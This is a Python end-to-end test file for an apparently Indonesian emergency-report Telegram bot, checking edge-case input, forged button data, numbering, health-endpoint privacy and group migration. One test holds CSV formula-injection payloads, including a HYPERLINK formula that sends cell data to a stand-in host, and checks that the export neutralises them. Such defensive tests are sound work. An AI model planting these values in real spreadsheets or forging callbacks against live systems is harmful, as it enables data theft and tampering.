"""End to end: input at the edges of what the bot accepts is answered in words, never with an error; numbers
past 99999; drafts of a call taker who was removed."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from bot.config import Settings
from bot.sandbox import world
from bot.sandbox.fake_api import FakeTelegram
from bot.sandbox.process import BotProcess, free_port

from .conftest import add_staff, bind_all_groups
from .steps import (
    HEALTH_TOKEN,
    all_responders_finish,
    everywhere,
    file_fire,
    healthz,
    webhook_env,
)

pytestmark = pytest.mark.e2e
WIT = ZoneInfo("Asia/Jayapura")


def no_error_answered(fake: FakeTelegram, process: BotProcess, chat_id: int) -> None:
    assert not any("terjadi kesalahan" in m.text for m in fake.bot_messages(chat_id))
    assert "Traceback" not in process.logs()


def test_out_of_range_commands_and_forged_buttons_are_answered_in_words(running: BotProcess,
                                                                         fake: FakeTelegram) -> None:
    boss = world.SUPERVISOR
    fake.send_text(boss, boss, "/rekap 9999-12-31")
    assert "di luar jangkauan" in fake.wait_for_message(boss, "Cara pakai: /rekap").text
    number = file_fire(fake)
    fake.send_text(boss, boss, f"/tunda {number} 99999999d menunggu")
    assert "paling lama ditunda 24 jam" in fake.wait_for_message(boss, "terlalu lama").text
    fake.send_text(boss, boss, f"/tunda {number} 999999999999999999999999d menunggu")
    fake.wait_for_message(boss, "tidak dikenal. Tulis misalnya")
    fake.send_text(boss, boss, "/status 3000000000")
    fake.wait_for_message(boss, "Laporan 3000000000 tidak ada")
    fake.send_text(boss, boss, "/lapor")
    form = fake.wait_for_message(boss, "pilih kategori")
    draft = form.buttons()[0][1].split(":")[1]
    forged = [f"f1:{draft}:kec:99", f"f1:{draft}:jen:x", f"f1:{draft}:kel:zzz", "f1:3000000000:kat:medis",
              "a1:3000000000:ack", "c1:99999999999:ok", "f1:garbage"]
    for data in forged:
        answer = fake.wait_for_answer(fake.press(boss, boss, form.message_id, data, forge=True))
        assert answer.get("text"), data
    card = fake.wait_for_message(world.GROUPS["damkar"], number)
    answer = fake.wait_for_answer(fake.press(world.DAMKAR_STAFF, world.GROUPS["damkar"], card.message_id,
                                             "a1:2147483648:ack", forge=True))
    assert answer["text"] == "Laporan ini tidak ditemukan."
    fake.send_text(boss, boss, "/aktif")  # still working
    fake.wait_for_message(boss, number.split("-")[-1])
    no_error_answered(fake, running, boss)


def test_numbers_past_99999_are_imported_and_used_in_commands(running: BotProcess, fake: FakeTelegram,
                                                               tmp_path: Path) -> None:
    year = datetime.now(WIT).year
    data = tmp_path / "old.csv"
    data.write_text(f"nomor,waktu,kategori,kecamatan,alamat,keterangan\n112-{year}-100000,"
                    f"{datetime.now(WIT).isoformat(timespec='seconds')},medis,Sirimau,Pasar Mardika,Pingsan\n")
    assert "1 laporan diimpor" in running.cli("import", "--format", "csv", str(data)).stdout
    rina = world.CALL_TAKER
    fake.send_text(rina, rina, "/status 100000")
    assert "Pasar Mardika" in fake.wait_for_message(rina, f"112-{year}-100000").text
    fake.send_text(rina, rina, world.FIRE_REPORT)
    accepted = fake.wait_for_message(rina, "Laporan tercatat")
    assert f"112-{year}-100001" in accepted.text
    fake.send_text(rina, rina, f"/tutup 112-{year}-100001 palsu iseng")
    fake.wait_for_message(rina, f"112-{year}-100001 ditutup")
    fake.send_text(rina, rina, f"/catatan {year}-100000 ditelepon balik")
    fake.wait_for_message(rina, f"Catatan untuk 112-{year}-100000 tersimpan")
    no_error_answered(fake, running, rina)


def test_a_call_taker_removed_midway_cannot_finish_the_form(running: BotProcess, fake: FakeTelegram) -> None:
    rina = world.CALL_TAKER
    fake.send_text(rina, rina, "/lapor")
    form = fake.wait_for_message(rina, "pilih kategori")
    data = next(d for label, d in form.buttons() if "medis" in label.lower())
    fake.wait_for_answer(fake.press(rina, rina, form.message_id, data))
    running.cli("users", "remove", "--id", str(rina))
    subtype = fake.wait_until(lambda: next((d for _, d in fake.last(rina).buttons() if ":jen:" in d), None),
                              what="the subtype step")
    answer = fake.wait_for_answer(fake.press(rina, rina, fake.last(rina).message_id, subtype))
    assert "tidak lagi terdaftar" in answer["text"]
    again = fake.wait_for_answer(fake.press(rina, rina, fake.last(rina).message_id, subtype))
    assert again["text"] == "Formulir ini sudah tidak berlaku. Kirim /lapor untuk memulai lagi."


def test_a_csv_export_never_hands_a_spreadsheet_a_formula(process: BotProcess, tmp_path: Path) -> None:
    data = tmp_path / "evil.csv"
    rows = [["waktu", "kategori", "kecamatan", "alamat", "keterangan"],
            ["2026-01-05T10:00:00+09:00", "medis", "Sirimau", '=HYPERLINK("http://x.example/?d="&A1,"klik")',
             "@SUM(1+1)"],
            ["2026-01-05T11:00:00+09:00", "medis", "Sirimau", "+62 lewat telepon", "-1+2"],
            ["2026-01-05T12:00:00+09:00", "medis", "Sirimau", "\tdi tab", "biasa"]]
    with data.open("w", newline="") as fh:
        csv.writer(fh).writerows(rows)
    process.cli("import", "--format", "csv", str(data))
    exported = process.cli("export", "--from", "2026-01-05", "--to", "2026-01-05", "--format", "csv").stdout
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or re.match(r"^-(?!\d+(\.\d+)?$)", c)]
    assert "'=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\")" in cells and "'@SUM(1+1)" in cells
    assert "'-1+2" in cells and "biasa" in cells
    stats = process.cli("stats", "--from", "2026-01-05", "--to", "2026-01-05", "--format", "csv").stdout
    assert not any(c.startswith("=") for row in csv.reader(io.StringIO(stats)) for c in row)


def test_healthz_tells_strangers_only_up_or_down_and_never_shows_user_ids(process: BotProcess,
                                                                           fake: FakeTelegram) -> None:
    port = free_port()
    process.env.update(webhook_env(port))
    add_staff(process, [(world.CALL_TAKER, "Rina", "call_taker")])
    fake.fail("server_error", method="sendMessage", chat_id=world.CALL_TAKER, times=-1)  # a notice to her waits
    process.start("--webhook")
    fake.wait_until(lambda: fake.webhook, what="setWebhook")
    bind_all_groups(fake)
    fake.send_text(world.CALL_TAKER, world.CALL_TAKER, world.FIRE_REPORT)
    fake.wait_until(lambda: "private" in healthz(port)[1].get("outbox", {}), what="a notice to a person waiting")
    for token in (None, "wrong", HEALTH_TOKEN[:-1]):
        assert healthz(port, token) == (200, {"status": "ok"})
    status, details = healthz(port)
    assert status == 200 and details["status"] == "ok" and details["database"] == "ok"
    assert str(world.CALL_TAKER) not in json.dumps(details)
    assert Settings(_env_file=None).webhook_listen == "127.0.0.1"  # type: ignore[call-arg]


def test_a_group_upgraded_to_a_supergroup_is_rekeyed_before_the_next_report(running: BotProcess,
                                                                            fake: FakeTelegram) -> None:
    old, new = world.GROUPS["damkar"], -1002000000006
    fake.announce_migration(old, new, world.DAMKAR_STAFF)
    fake.wait_until(lambda: str(new) in running.cli("groups", "list").stdout, what="damkar re-keyed")
    sends_before = len(fake.calls_of("sendMessage"))
    number = file_fire(fake)
    card = fake.wait_for_message(new, number)
    assert "LAPORAN" in card.text and card.buttons()
    later = fake.calls_of("sendMessage")[sends_before:]
    assert not [c for c in later if c.get("chat_id") == old]  # no failed first try at the old id
    no_error_answered(fake, running, world.CALL_TAKER)


def test_the_caller_confirmation_goes_to_the_call_center_group_when_the_call_taker_blocked_the_bot(
        running: BotProcess, fake: FakeTelegram) -> None:
    number = file_fire(fake)
    fake.wait_for_message(world.CALL_TAKER, "terkirim ke semua grup")
    fake.fail("blocked", method="sendMessage", chat_id=world.CALL_TAKER, times=-1)
    all_responders_finish(fake, number)
    center = world.GROUPS["call_center"]
    ask = fake.wait_for_message(center, "Telepon pelapor")
    assert number in ask.text and "untuk Rina" in ask.text and "bot diblokir" in ask.text
    data = next(d for t, d in ask.buttons() if "mengonfirmasi" in t)
    fake.wait_for_answer(fake.press(world.SUPERVISOR, center, ask.message_id, data))
    everywhere(fake, number, "DITUTUP: tertangani")
